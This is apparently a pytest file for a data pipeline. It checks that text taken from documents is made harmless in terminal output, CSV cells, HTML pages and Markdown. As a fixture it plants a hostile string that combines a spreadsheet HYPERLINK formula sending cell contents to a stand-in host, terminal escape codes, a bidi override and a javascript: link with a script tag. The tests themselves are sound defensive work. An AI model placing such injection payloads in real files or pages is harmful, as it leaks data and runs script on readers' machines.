"""A document's words where something else would act on them: terminals, spreadsheets, Markdown."""

import ast
import csv
import html
import io
import json
import sys
import tomllib
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipelines import harmless, site
from pipelines.cli import app
from pipelines.orchestration import metadata
from pipelines.publish import package, published
from schemas.registry_toml import quoted
from tests.support import ROOT
from tests.support.building import base_tables, edition_tables, publish
from tests.support.cases import cases

UNSEEN = " \u200b\u3000\u202e\x1b\U000e0001"
STEERING = [
    *map(chr, (0, 7, 8, 0xB, 0xD, 0x1B, 0x7F, 0x85, 0x9B, 0x61C, 0x200B, 0x200E, 0x200F, 0x2028, 0x2029)),
    *map(chr, (0x202A, 0x202E, 0x2060, 0x2066, 0x2069, 0xFEFF, 0xD800, 0xE0001, 0xE0041)),
]
HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1)\x1b]0;X\x07\x1b[2J\u202e\u200b [md](javascript:alert(1))<script>'
)


@pytest.mark.parametrize("character", STEERING, ids=ascii)
def test_what_steers_a_terminal_is_a_code_and_exact_in_json(character: str) -> None:
    text = f"UN{character}DOF é\t7\n"
    assert harmless.visible(text) == f"UN<U+{ord(character):04X}>DOF é\t7\n"
    written = harmless.json_text({"text": text})
    assert character not in written
    assert json.loads(written) == {"text": text}


@pytest.mark.parametrize(
    "character", [*filter(str.isascii, STEERING), "\u202e", "\u200b", "\u00a0"], ids=ascii
)
def test_an_entry_to_paste_can_be_seen_and_says_the_same(character: str) -> None:
    text = f'UN{character}"DOF\\'
    written = quoted(text)
    assert written.isprintable()
    assert tomllib.loads(f"name = {written}")["name"] == json.loads(written) == text


def test_ordinary_text_stays() -> None:
    ordinary = "Israël’s “één” – 1 790 ½ 中 \N{GRINNING FACE}\n"
    assert harmless.visible(ordinary) == ordinary


@given(
    st.lists(st.text(st.sampled_from("'=+-@\t\r\n ＝﹢＋\u200b\u3000\u202e\x1b\U000e0001\",5a")), min_size=1)
)
@example(["'=1", "''", "'s avonds", "-", "\rx"])
def test_no_cell_is_a_formula_and_each_reads_back(texts: list[str]) -> None:
    stream = io.StringIO()
    harmless.write_csv(stream, texts, [texts])
    names, cells = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    assert [harmless.unguarded(cell) for cell in cells] == texts
    assert names == cells
    for text, cell in zip(texts, cells, strict=True):
        assert not cell.strip(UNSEEN).startswith(tuple("=+-@＝＋"))
        assert cell[:1] not in tuple("\t\r\n")
        assert cell.removeprefix("'") == text.removeprefix("'") or cell == f"'{text}"
    rows = pa.table({"text": texts})
    with duckdb.connect() as connection:  # as COPY writes them
        (listed,) = connection.execute(f"SELECT list({harmless.guarded('text')}) FROM rows").fetchall()
    assert listed[0] == cells, rows


def test_numbers_and_words_have_no_apostrophe() -> None:
    stream = io.StringIO()
    harmless.write_csv(
        stream, ("a", "b", "c", "d"), [(-3, -0.5, "'s avonds", "3 + 2"), (None, True, [-1], "-")]
    )
    assert stream.getvalue() == "a,b,c,d\n-3,-0.5,'s avonds,3 + 2\n,true,[-1],'-\n"


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse with a published file in which what a document can say is hostile."""
    edition = edition_tables(
        2024,
        [{"mission_id": "unifil", "mission_as_printed": HOSTILE, "deployed_military": 7}],
        mandates=[{"mission_id": "unifil", "legal_basis": HOSTILE}],
        footnotes=[HOSTILE],
    )
    finding = {"edition_year": 2024, "mission_id": "unifil", "message": HOSTILE}
    base = base_tables(edition, missions=[{"mission_id": "unifil"}], found={"findings": [finding]})
    return publish(tmp_path_factory.mktemp("harmless") / "jvom.duckdb", base).parent


@cases("command", "expected")
def test_no_command_sends_them_to_a_terminal(
    planted: Path, capsys: pytest.CaptureFixture[str], command: list[str], expected: str
) -> None:
    app.main([*command, "--warehouse", str(planted)])
    out, err = capsys.readouterr()
    assert expected in out + err
    assert harmless.visible(out + err) == out + err


@pytest.mark.parametrize("at_a_terminal", [True, False])
def test_csv_is_exact_but_for_a_terminal(
    planted: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, at_a_terminal: bool
) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: at_a_terminal, raising=False)
    app.main(["sql", "SELECT text, -7 AS n FROM footnotes", "--csv", "--warehouse", str(planted)])
    _, (text, number) = csv.reader(io.StringIO(capsys.readouterr().out, newline=""))
    assert number == "-7"
    assert text == f"'{harmless.visible(HOSTILE) if at_a_terminal else HOSTILE}"


def test_a_package_guards_csv_and_says_so_and_keeps_parquet_exact(planted: Path, tmp_path: Path) -> None:
    with published.connect(planted / "jvom.duckdb") as connection:
        files = package.build(connection, tmp_path, {})
    (row,) = csv.DictReader(io.StringIO(files["data/footnotes.csv"].read_text(encoding="utf-8"), newline=""))
    assert row["text"] == f"'{HOSTILE}"
    (exact,) = pq.read_table(files["data/footnotes.parquet"]).to_pylist()
    assert exact["text"] == harmless.unguarded(row["text"]) == HOSTILE
    resources = json.loads(files["datapackage.json"].read_bytes())["resources"]
    schemas = [resource["schema"] for resource in resources if resource["format"] == "csv"]
    assert all("apostrophe" in schema["description"] for schema in schemas)
    assert "apostrophe" in files["README.md"].read_text(encoding="utf-8")


def test_no_page_of_the_site_has_them(planted: Path) -> None:
    with published.connect(planted / "jvom.duckdb") as connection:
        pages = site.build(connection, assets={"published": []})
    texts = [data.decode() for path, data in pages.items() if path.endswith(".html")]
    assert [text for text in texts if harmless.visible(text) != text or "<script>]" in text] == []
    assert any("<U+202E>" in html.unescape(text) for text in texts)


def test_what_a_vintage_changed_is_no_markup_in_dagster() -> None:
    (shown,) = metadata.changes([f"unifil: {HOSTILE}"]).values()
    assert shown.value.startswith(r"- unifil: =HYPERLINK(")
    assert r"\[md\](javascript:alert(1))\<script\>" in shown.value
    assert harmless.visible(shown.value) == shown.value


def test_only_the_terminal_prints() -> None:
    """So that there is one place at which words become harmless."""
    wrong = [
        f"{path.name}:{node.lineno}"
        for path in (ROOT / "pipelines" / "cli").glob("*.py")
        if path.name != "terminal.py"
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and ast.unparse(node.func) in ("print", "typer.echo", "echo")
    ]
    assert wrong == []
